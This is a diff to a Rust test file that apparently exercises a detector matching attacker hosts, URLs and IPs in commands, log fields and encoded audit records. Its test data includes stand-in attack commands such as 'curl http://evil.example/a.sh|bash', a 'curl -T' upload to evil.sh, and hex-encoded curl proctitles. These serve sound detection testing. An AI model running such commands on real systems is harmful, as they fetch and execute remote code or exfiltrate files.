@@ -60,6 +60,16 @@ fn urls_with_escapes_are_read_once() {
     {
         assert!(words(list, text)[0].starts_with("Exact"), "{text}");
     }
+    let script = "http://evil.example/a.sh";
+    for text in [
+        "curl http://evil.example/a.sh|bash",
+        "http://evil.example/a.sh,200,5",
+        "?u=http://evil.example/a.sh&k=1",
+        "(http://evil.example/a.sh;x",
+    ] {
+        assert!(words(script, text)[0].starts_with("Exact"), "{text}");
+    }
+    assert!(!meets(script, "http://evil.example/a.sha") && !meets(script, "http://evil.example/a.sh.bak|"));
     for text in ["/var//evil.example/a.bin?x=1&y=2", r"\/var\/evil.example\/a.bin", "%2Fvar%2Fevil.example%2Fa.bin"] {
         assert!(!meets(list, text), "{text}");
     }
@@ -270,6 +280,7 @@ fn names_of_hosts_in_commands_and_names_of_files_in_fields_of_files() {
         ("evil.com", command, "ssh root@evil.com"),
         ("evil.sh", command, "scp a b@evil.sh:/tmp"),
         ("evil.sh", command, "curl evil.sh/up"),
+        ("evil.sh", command, "curl -T a evil.sh:8443"),
         ("evil.com", Some("requestObject.spec.containers.image"), r#""image":"evil.com\/tool:1""#),
         ("evil.com", Some("FileOriginUrl"), "https://evil.com/a.iso"),
         ("evil.com", Some("profile"), "evil.com"),
@@ -287,7 +298,17 @@ fn names_of_hosts_in_commands_and_names_of_files_in_fields_of_files() {
         assert!(!means(list, field, text), "{field:?} {text}");
     }
     assert!(means("203.0.113.4", Some("conversion_ip"), "203.0.113.4"));
-    for field in ["cs(User-Agent)", "userAgent", "http_user_agent", "fileVersion", "app_version", "useragent"] {
+    for field in [
+        "cs(User-Agent)",
+        "userAgent",
+        "http_user_agent",
+        "fileVersion",
+        "app_version",
+        "useragent",
+        "OSVersion",
+        "HTTPUserAgent",
+        "clientversion",
+    ] {
         assert!(!means("203.0.113.4", Some(field), "203.0.113.4"), "{field}");
     }
 }
@@ -500,6 +521,14 @@ const HIDDEN: &[(&str, &str)] = &[
         "syslog.log",
         "Mar 28 10:00:00 h audispd: type=PROCTITLE msg=audit(1774692000.120:1): proctitle=6375726C003230332E302E3131332E37\n\
          Mar 28 10:00:01 h cron[1]: run\n",
+    ),
+    (
+        "arguments.log",
+        "type=EXECVE msg=audit(1774692001.120:3): argc=3 a0=\"curl\" a1=\"Chrome/203.0.113.7\" a2=7820203230332E302E3131332E37\n",
+    ),
+    (
+        "container.json",
+        "{\"log\":\"type=PROCTITLE msg=audit(1774692000.120:1): proctitle=6375726C003230332E302E3131332E37\\n\",\"stream\":\"stdout\",\"time\":\"2026-03-28T10:00:00Z\"}\n",
     ),
     (
         "capture.txt",
